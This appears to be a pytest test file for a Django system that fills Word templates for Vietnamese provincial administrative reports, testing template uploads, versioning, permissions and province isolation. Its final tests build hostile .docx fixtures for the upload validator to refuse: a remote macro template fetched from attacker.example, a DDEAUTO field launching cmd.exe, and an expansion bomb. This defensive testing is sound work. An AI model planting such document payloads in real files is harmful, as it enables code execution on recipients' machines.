"""The Word templates: the bundled ones are what the script builds; a province's own template,
edited in Word, is accepted only when it renders, is used for that province only, and can be
returned to the bundled one; a second province's documents say nothing of Lai Châu; every
kind opens in LibreOffice."""

import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from docx import Document

from cchc.core import documents
from cchc.core.services import ServiceError
from cchc.organizations.models import Agency, AgencyLevel
from cchc.reports import document_templates as templates
from cchc.reports.bundled_templates import TITLES, build_template
from cchc.reports.docx_builder import BUNDLED_DIR, build_report_docx, bundled_template
from cchc.reports.models import DocumentKind, DocumentTemplate, PeriodicReport
from cchc.reports.services import report_content, report_generate
from tests.docx_parts import edit
from tests.factories import make_user
from tests.reports.libreoffice import pdf_through_libreoffice


def edited(template: bytes, *, before_title: str = "", replace: tuple[str, str] | None = None):
    """The template as the office edits it in Word: a paragraph typed above the title, or
    a text changed (here through python-docx, which keeps the rest of the file)."""
    document = Document(io.BytesIO(template))
    if before_title:
        title = next(p for p in document.paragraphs if p.text == "{{ title }}")
        title.insert_paragraph_before(before_title)
    if replace:
        old, new = replace
        for paragraph in document.paragraphs:
            if paragraph.text == old:
                paragraph.runs[0].text = new
                for run in paragraph.runs[1:]:
                    run.text = ""
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def text_of(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    parts += [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join(parts)


@pytest.mark.parametrize("kind", sorted(TITLES))
def test_the_bundled_templates_are_what_the_script_builds(kind):
    assert (BUNDLED_DIR / f"{kind}.docx").read_bytes() == build_template(kind)
    assert build_template(kind) == build_template(kind)  # reproducible


def test_every_kind_has_a_bundled_template():
    assert sorted(TITLES) == sorted(DocumentKind.values)
    for kind in DocumentKind.values:
        with zipfile.ZipFile(io.BytesIO(bundled_template(kind))) as archive:
            assert "word/document.xml" in archive.namelist()


@pytest.mark.parametrize("kind", sorted(DocumentKind.values))
def test_each_kind_renders_its_sample_and_opens_in_libreoffice(kind, tmp_path):
    sample = templates.sample_document(kind, "Điện Biên")
    data = build_report_docx(sample, bundled_template(kind))
    text, pages = pdf_through_libreoffice(data, tmp_path, kind)
    assert pages == 1
    for expected in [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Điện Biên, ngày 14 tháng 3 năm 2026",
        "98,5%",
        "Nơi nhận:",
        "- Lưu: VT.",
        "KT. GIÁM ĐỐC",
        "PHÓ GIÁM ĐỐC",
        "Nguyễn Văn Mẫu",
    ]:
        assert expected in text, expected
    if kind == DocumentKind.PAR_INDEX_ANNEX:
        assert "PHỤ LỤC" in text and "(Kèm theo Quyết định số 05/QĐ-UBND" in text
        assert "TỈNH ĐIỆN BIÊN" in text and "- Sở Nội vụ;" in text
    elif kind == DocumentKind.INSPECTION_CONCLUSION:
        assert "KẾT LUẬN" in text and "UBND TỈNH ĐIỆN BIÊN" in text and "SỞ NỘI VỤ" in text
        assert "Số: 05/KL-SNV" in text and "- Sở Tư pháp;" in text
        assert "Kiểm tra công tác cải cách hành chính tại Sở Tư pháp" in text
    else:
        assert "BÁO CÁO" in text and "UBND TỈNH ĐIỆN BIÊN" in text and "SỞ TƯ PHÁP" in text
        assert "- Sở Nội vụ;" in text
    assert "Lai Châu" not in text and "LAI CHÂU" not in text


# --- a province's own template ----------------------------------------------------------------

pytestmark = pytest.mark.django_db


@pytest.fixture
def lai_chau():
    return Agency.objects.get(code="12")


def upload(actor, content, kind=DocumentKind.PERIODIC_REPORT, province=None):
    return templates.template_upload(
        actor=actor, kind=kind, province=province or Agency.objects.get(code="12"),
        file_name="mau.docx", content=content,
    )  # fmt: skip


def test_an_edited_template_becomes_the_new_version_and_reverts_to_the_bundled_one(
    reform_office, lai_chau
):
    bundled = bundled_template(DocumentKind.PERIODIC_REPORT)
    first = upload(reform_office, edited(bundled, before_title="Kính gửi: Bộ Nội vụ"))
    second = upload(reform_office, edited(bundled, before_title="Kính gửi: Thường trực Tỉnh ủy"))
    assert (first.version, second.version) == (1, 2)
    first.refresh_from_db()
    assert not first.active and second.active and second.uploaded_by == reform_office
    used = templates.template_for(DocumentKind.PERIODIC_REPORT, lai_chau)
    assert used == bytes(second.content)
    # The other kind keeps its bundled template.
    assert templates.template_for(DocumentKind.PAR_INDEX_ANNEX, lai_chau) == bundled_template(
        DocumentKind.PAR_INDEX_ANNEX
    )
    assert (
        templates.template_revert(
            actor=reform_office, kind=DocumentKind.PERIODIC_REPORT, province=lai_chau
        )
        == 1
    )
    assert templates.template_for(DocumentKind.PERIODIC_REPORT, lai_chau) == bundled
    assert DocumentTemplate.objects.filter(province=lai_chau).count() == 2  # versions kept


def test_the_generated_report_carries_the_edit(client, dept_officer, reform_office):
    upload(reform_office, edited(bundled_template(DocumentKind.PERIODIC_REPORT),
                                 before_title="Kính gửi: Sở Nội vụ tỉnh"))  # fmt: skip
    report = PeriodicReport.objects.create(
        agency=Agency.objects.get(code="12-STP"), kind="quarter", year=2022, number=1,
        number_symbol="05/BC-STP", signer_name="Nguyễn Văn A",
    )  # fmt: skip
    report = report_generate(actor=dept_officer, report=report)
    from django.core.files.storage import default_storage

    with default_storage.open(report.docx_path, "rb") as stored:
        text = text_of(stored.read())
    assert "Kính gửi: Sở Nội vụ tỉnh" in text
    assert "Số: 05/BC-STP" in text and "Nguyễn Văn A" in text


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Tệp rỗng"),
        (b"%PDF-1.7 not word", "không phải tệp Word .docx"),
        (None, "sai cú pháp Jinja: unexpected '}'"),
        ("unknown", "dùng tên “ten_nguoi_ky”"),
        ("branch", "dùng tên “nguoi_ky_thay”"),
    ],
)
def test_a_template_that_does_not_render_is_refused_and_nothing_is_stored(
    reform_office, content, message
):
    bundled = bundled_template(DocumentKind.PERIODIC_REPORT)
    if content is None:
        content = edited(bundled, replace=("{{ title }}", "{{ title }"))
    elif content == "unknown":
        content = edited(bundled, replace=("{{ title }}", "{{ ten_nguoi_ky }}"))
    elif content == "branch":  # in a branch the sample data never takes
        content = edited(bundled, replace=(
            "{{ title }}", "{% if not signer_name %}{{ nguoi_ky_thay }}{% endif %}{{ title }}"
        ))  # fmt: skip
    with pytest.raises(ServiceError) as caught:
        upload(reform_office, content)
    assert message in caught.value.messages[0]
    assert caught.value.messages[0].startswith(("Mẫu văn bản", "Tệp"))
    assert not DocumentTemplate.objects.exists()


def test_only_the_reform_office_changes_templates(dept_officer, reform_office, lai_chau):
    bundled = bundled_template(DocumentKind.PERIODIC_REPORT)
    with pytest.raises(PermissionDenied):
        upload(dept_officer, bundled)
    upload(reform_office, bundled)
    with pytest.raises(PermissionDenied):
        templates.template_revert(
            actor=dept_officer, kind=DocumentKind.PERIODIC_REPORT, province=lai_chau
        )
    assert DocumentTemplate.objects.get().active


# --- a second province ------------------------------------------------------------------------


@pytest.fixture
def dien_bien():
    """A second province's demo data: the province, two departments, a district."""
    province = Agency.objects.create(
        code="11", name="Tỉnh Điện Biên (UBND tỉnh)", level=AgencyLevel.PROVINCE
    )
    for code, name, level in [
        ("11-STP", "Sở Tư pháp", AgencyLevel.DEPARTMENT),
        ("11-SNV", "Sở Nội vụ", AgencyLevel.DEPARTMENT),
        ("11-MN", "Huyện Mường Nhé", AgencyLevel.DISTRICT),
    ]:
        Agency.objects.create(code=code, name=name, level=level, parent=province)
    return province


def test_a_second_province_documents_say_nothing_of_lai_chau(dien_bien, reform_office):
    officer = make_user("db-stp", "11-STP", "agency_officer")
    for code, kind in [("11-STP", "quarter"), ("11-MN", "year"), ("11", "six_months")]:
        report = PeriodicReport.objects.create(
            agency=Agency.objects.get(code=code), kind=kind, year=2030,
            number=1 if kind == "quarter" else 0, signer_name="Lò Văn Minh",
        )  # fmt: skip
        document, _annex = report_content(report)
        text = text_of(build_report_docx(document))
        assert "Điện Biên, ngày" in text, text
        assert "Lai Châu" not in text and "LAI CHÂU" not in text, text
        if code == "11-STP":
            assert "UBND TỈNH ĐIỆN BIÊN\nSỞ TƯ PHÁP" in text
        if code == "11":
            assert "ỦY BAN NHÂN DÂN\nTỈNH ĐIỆN BIÊN" in text
        if code == "11-MN":
            assert "ỦY BAN NHÂN DÂN\nHUYỆN MƯỜNG NHÉ" in text
    # A report generated by the second province's officer, with Lai Châu's own template
    # uploaded: the template of its own province (the bundled one) is used.
    upload(reform_office, edited(bundled_template(DocumentKind.PERIODIC_REPORT),
                                 before_title="Riêng của Lai Châu"))  # fmt: skip
    report = PeriodicReport.objects.get(agency__code="11-STP")
    report = report_generate(actor=officer, report=report)
    from django.core.files.storage import default_storage

    with default_storage.open(report.docx_path, "rb") as stored:
        text = text_of(stored.read())
    assert "Riêng của Lai Châu" not in text and "ĐIỆN BIÊN" in text


def test_the_sample_date_is_a_fixed_day():
    assert templates.sample_document(DocumentKind.PERIODIC_REPORT, "Điện Biên").date == date(
        2026, 3, 14
    )


def test_a_template_failing_on_a_real_report_is_said_not_a_system_error(
    client, dept_officer, reform_office
):
    """A province template whose expression fails only on real data (a branch the sample
    does not take) gave the agency making its report an error page (ZeroDivisionError)."""
    bomb = "{% if signer_name != 'Nguyễn Văn Mẫu' %}{{ 1 // 0 }}{% endif %}{{ title }}"
    upload(reform_office, edited(bundled_template(DocumentKind.PERIODIC_REPORT),
                                 replace=("{{ title }}", bomb)))  # fmt: skip
    report = PeriodicReport.objects.create(
        agency=Agency.objects.get(code="12-STP"), kind="quarter", year=2022, number=1,
        number_symbol="05/BC-STP", signer_name="Nguyễn Văn A",
    )  # fmt: skip
    with pytest.raises(ServiceError, match=r"một biểu thức trong mẫu bị lỗi .*chia cho 0"):
        report_generate(actor=dept_officer, report=report)
    report.refresh_from_db()
    assert not report.docx_path and report.generated_at is None


# --- what a template renders, and what it carries into every agency's documents -------------

KIND = DocumentKind.PERIODIC_REPORT


def zip_edited(replace=None, extra=None) -> bytes:
    """The bundled template with parts changed in its zip (`replace`: name → function of the
    part's bytes) or added: what python-docx would not write."""
    return edit(bundled_template(KIND), replace, extra)


@pytest.mark.parametrize("kind", sorted(DocumentKind.values))
def test_the_bundled_templates_pass_the_upload_checks(kind):
    assert templates.check_template(kind, bundled_template(kind), "Lai Châu")


def test_a_template_whose_output_unpacks_past_the_limit_is_refused(monkeypatch):
    """A 39 KB annex template wrote a million paragraphs: a 144 KB .docx of 34 MB of XML,
    parsed twice more in the server process (1,7 GB)."""
    monkeypatch.setattr(documents, "UNPACKED_MAX", 1024 * 1024)

    def many_paragraphs(xml: bytes) -> bytes:
        text = xml.decode()
        at = text.index("<w:sectPr")
        loop = (
            "<w:p><w:r><w:t>{%p for i in range(400) %}</w:t></w:r></w:p>"
            + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100
            + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>"
        )
        return (text[:at] + loop + text[at:]).encode()

    template = zip_edited({"word/document.xml": many_paragraphs})
    assert len(template) < 64 * 1024
    with pytest.raises(ValidationError) as refused:
        templates.check_template(KIND, template, "Lai Châu")
    assert refused.value.messages == [
        "Mẫu văn bản không dùng được: văn bản tạo từ mẫu khi giải nén lớn hơn 1 MB (một vòng "
        "lặp trong mẫu lặp lại quá nhiều nội dung?)."
    ]


SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
    b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT1" Type="'
    b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/payload.dotm" TargetMode="External"/></Relationships>'
)


def _attached_template(xml: bytes) -> bytes:
    text = xml.decode()
    if 'xmlns:r="' not in text[: text.index(">", text.index("<w:settings"))]:
        text = text.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships" ',
            1,
        )
    at = text.index(">", text.index("<w:settings")) + 1
    return (text[:at] + '<w:attachedTemplate r:id="rIdT1"/>' + text[at:]).encode()


def test_a_template_that_loads_a_remote_macro_template_is_refused():
    """Word fetches the attached .dotm when it opens the document, and can run its macros."""
    template = zip_edited(
        {"word/settings.xml": _attached_template}, {"word/_rels/settings.xml.rels": SETTINGS_RELS}
    )
    with pytest.raises(ValidationError) as refused:
        templates.check_template(KIND, template, "Lai Châu")
    message = refused.value.messages[0]
    assert message.startswith(
        "Tệp mẫu gắn với một mẫu Word khác (http://attacker.example/payload.dotm), nơi có thể "
        "chứa macro"
    )
    assert message.endswith("rồi lưu lại mẫu.")


@pytest.mark.parametrize(
    ("target", "refused"),
    [
        ("file:///C:\\Users\\vanphong\\Templates\\Mau-bao-cao.dotx", False),
        ("file:///D:/Mau/Mau-bao-cao.dotx", False),
        ("\\\\may-chu\\chia-se\\mau.dotm", True),
        ("file://may-chu/chia-se/mau.dotm", True),
        ("https://example.org/mau.dotm", True),
    ],
)
def test_a_template_made_from_one_on_the_author_s_disk_is_accepted(target, refused):
    """A document made in Word from a template on its author's disk names that template; on
    any other computer Word finds nothing there and fetches nothing, so such a template is
    accepted. One named by an address or a network share is refused."""
    rels = SETTINGS_RELS.replace(b"http://attacker.example/payload.dotm", target.encode())
    template = zip_edited(
        {"word/settings.xml": _attached_template}, {"word/_rels/settings.xml.rels": rels}
    )
    if refused:
        with pytest.raises(ValidationError, match="gắn với một mẫu Word khác"):
            templates.check_template(KIND, template, "Lai Châu")
    else:
        assert templates.check_template(KIND, template, "Lai Châu").startswith(b"PK")


def test_a_template_with_a_ddeauto_field_is_refused():
    field = (
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
        'xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>'
    )
    template = zip_edited(
        {
            "word/document.xml": lambda xml: (
                xml.decode().replace("{{ signer_name }}", "{{ signer_name }}" + field).encode()
            )
        }
    )
    with pytest.raises(ValidationError) as refused:
        templates.check_template(KIND, template, "Lai Châu")
    assert refused.value.messages[0].startswith(
        "Tệp mẫu có trường DDEAUTO (word/document.xml: “DDEAUTO c:\\\\windows\\\\system32"
    )
    assert (
        "hãy xóa trường đó (Alt+F9 để hiện mã trường) rồi lưu lại mẫu."
        in (refused.value.messages[0])
    )
